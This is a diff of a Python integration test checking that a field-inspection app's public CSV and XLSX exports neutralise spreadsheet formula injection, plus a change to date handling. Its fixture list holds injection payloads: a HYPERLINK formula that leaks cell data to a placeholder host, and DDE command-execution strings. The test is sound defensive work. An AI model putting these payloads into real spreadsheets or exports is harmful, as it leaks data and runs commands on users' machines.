@@ -12,13 +12,18 @@ import zipfile
 from datetime import datetime
 
 import httpx
+import pytest
 from openpyxl import load_workbook
 
 from field_app.core.ids import uuid7
 from field_app.outbox import sign_and_queue
 from schemas import envelope
 from tests.integration.conftest import County, server_rows
+from tests.support import dates
 from tests.support.records import record
+
+# Reads today's date (the suite's clock): .ci/run runs it again with the clock moved.
+pytestmark = pytest.mark.dates
 
 EVIL = ['=HYPERLINK("http://evil.invalid/?leak="&A1,"查看详情")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
 
@@ -46,7 +51,7 @@ def publish(county: County, inspector, leader, assignment: dict) -> None:
     assert inspector.sync().receipts == {"accepted": 1}
     sha = server_rows(county.db, "SELECT envelope_sha256 FROM records WHERE id = ?", doc["id"])[0][0]
     decision = {"schema": "suijian.review-decision/1", "id": uuid7(), "record_id": doc["id"], "record_envelope_sha256": sha,
-                "decision": "approve", "reason": "", "leader": county.leader, "decided_at": "2026-11-21T10:00:00Z"}
+                "decision": "approve", "reason": "", "leader": county.leader, "decided_at": dates.now_stamp()}
     text = envelope.sign(decision, envelope.REVIEW_TYPE, leader.keys.private_key()).decode()
     receipt = leader.http.post("/v1/reviews/batch", json={"envelopes": [text]}, headers=leader._auth()).json()
     assert receipt["receipts"][0]["status"] == "accepted", receipt
@@ -64,7 +69,8 @@ def test_formula_names_come_out_as_text_and_dates_as_dates(county: County, serve
     text = httpx.get(server.url + "/public/results.csv", timeout=30).text.lstrip("\ufeff")
     rows = [r for r in csv.reader(io.StringIO(text)) if r[2] in usccs]
     assert sorted(r[1] for r in rows) == sorted("'" + name for name in EVIL), "each formula is neutralised"
-    assert all(r[6][:4] == "2026" and r[10][:4] == "2026" and r[11] == "1" for r in rows)
+    inspected, published = dates.inspection_day().isoformat(), dates.today().isoformat()
+    assert all(r[6] == inspected and r[10] == published and r[11] == "1" for r in rows), rows
 
     body = httpx.get(server.url + "/public/results.xlsx", timeout=30).content
     assert b"<f>" not in zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml"), "no formula at all"
